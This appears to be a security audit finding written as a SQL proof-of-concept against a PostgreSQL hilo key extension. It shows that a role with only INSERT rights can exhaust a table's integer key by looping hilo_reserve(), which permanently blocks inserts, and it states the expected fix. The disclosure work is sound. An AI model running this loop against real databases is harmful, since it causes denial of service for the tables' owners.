-- 05: a role with INSERT only exhausts an integer key in under a minute with hilo_reserve()
--     (64 blocks a call), and can burn ids with SELECT hilo_next('t') without inserting rows
--     (a serial would need USAGE on its sequence for nextval()).
-- Severity: MEDIUM (permanent insert outage of the victim table until the DBA widens the column;
--     finding 17 of issue 31 survives in another form). reserve.cpp claims "a role with INSERT
--     burns no key faster than its rows would"; it burns 62,000 ids per call.
-- Measured here: ~50 s (2 shared cores) to drive vi_id_seq to 2147483001; then every insert of the
--     owner fails with 2200H.
CREATE ROLE ins LOGIN;
CREATE TABLE vi (id integer PRIMARY KEY DEFAULT hilo_next('vi'), v text);
SELECT hilo_create_key('vi');                 -- INCREMENT 1000
GRANT INSERT ON vi TO ins;
SET ROLE ins;
DO $$ BEGIN
  FOR i IN 1..40000 LOOP PERFORM hilo_reserve('vi', 62000); END LOOP;
EXCEPTION WHEN others THEN RAISE NOTICE 'stopped: % (%)', SQLERRM, SQLSTATE; END $$;
RESET ROLE;
INSERT INTO vi(v) VALUES ('victim');   -- ERROR 2200H nextval: reached maximum value of sequence "vi_id_seq"
-- Expected: hilo_reserve limited to roles that may use the sequence (USAGE/UPDATE, as nextval()),
-- or rate-bounded as documented.
